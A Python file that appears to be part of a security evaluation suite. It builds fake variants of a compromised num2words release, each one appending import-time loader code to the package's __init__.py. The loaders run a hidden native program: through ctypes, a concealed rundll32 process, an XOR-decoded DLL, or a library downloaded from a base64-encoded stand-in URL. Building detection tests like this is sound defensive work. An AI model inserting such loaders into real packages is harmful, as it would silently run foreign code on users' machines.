"""num2words 0.5.15 and 0.5.16, 28 July 2025: a Windows program under a module's name, loaded on import."""

from __future__ import annotations

from evals.lookalikes.shape import Edit, Lookalike, added, appended
from evals.lookalikes.wraps import b64, program, xored

INIT = "num2words/__init__.py"
_PROGRAM = program(180_000)

LOADER = """\
import os
import sys


def _build():
    if sys.platform != "win32":
        return
    import ctypes

    ctypes.CDLL(os.path.join(os.path.dirname(os.path.abspath(__file__)), "_build.py"))


_build()
"""
_RUNDLL = """\
import os
import subprocess

_where = os.path.join(os.path.dirname(__file__), "_build.py")
if os.name == "nt":
    subprocess.Popen(["rundll32.exe", _where + ",Start"], creationflags=0x08000000)
"""
_COPIED = """\
def _speed_up():
    import os, shutil, subprocess, tempfile

    source = os.path.join(os.path.dirname(__file__), "lang_XX.dat")
    target = os.path.join(tempfile.gettempdir(), "umpdc.dll")
    shutil.copyfile(source, target)
    subprocess.run(["rundll32", target, "#1"], shell=False)


_speed_up()
"""
_ENCODED = """\
from . import _tables


def _words():
    import ctypes, os, tempfile

    if os.name != "nt":
        return
    raw = bytes(b ^ 0x2F for b in bytes.fromhex(_tables.WORDS))
    where = os.path.join(tempfile.gettempdir(), "words.dll")
    with open(where, "wb") as out:
        out.write(raw)
    getattr(ctypes, "Win" + "DLL")(where)


_words()
"""
_FETCHED = f"""\
def _langs():
    import base64, ctypes, os, tempfile, urllib.request

    where = os.path.join(tempfile.gettempdir(), "langs.so")
    urllib.request.urlretrieve(base64.b64decode("{b64("https://words.example/langs.so")}").decode(), where)
    ctypes.CDLL(where)


_langs()
"""


def _one(name: str, *edits: Edit, shape: bool = False, first: str = "num2words/") -> Lookalike:
    return Lookalike(
        incident="num2words", name=name, project="num2words", base="0.5.14", version="0.5.15",
        edits=edits, shape=shape, first=first,
    )  # fmt: skip


LOOKALIKES = (
    _one(
        "program named _build.py", appended(INIT, LOADER),
        added("num2words/_build.py", _PROGRAM), shape=True,
    ),
    _one("started by rundll32", appended(INIT, _RUNDLL), added("num2words/_build.py", _PROGRAM)),
    _one(
        "data copied to a temporary folder", appended(INIT, _COPIED),
        added("num2words/lang_XX.dat", _PROGRAM),
    ),
    _one(
        "xor and hex in a table", appended(INIT, _ENCODED),
        added("num2words/_tables.py", f'WORDS = "{xored(program(30_000), bytes([0x2F])).hex()}"\n'),
    ),
    _one("library fetched", appended(INIT, _FETCHED)),
)  # fmt: skip
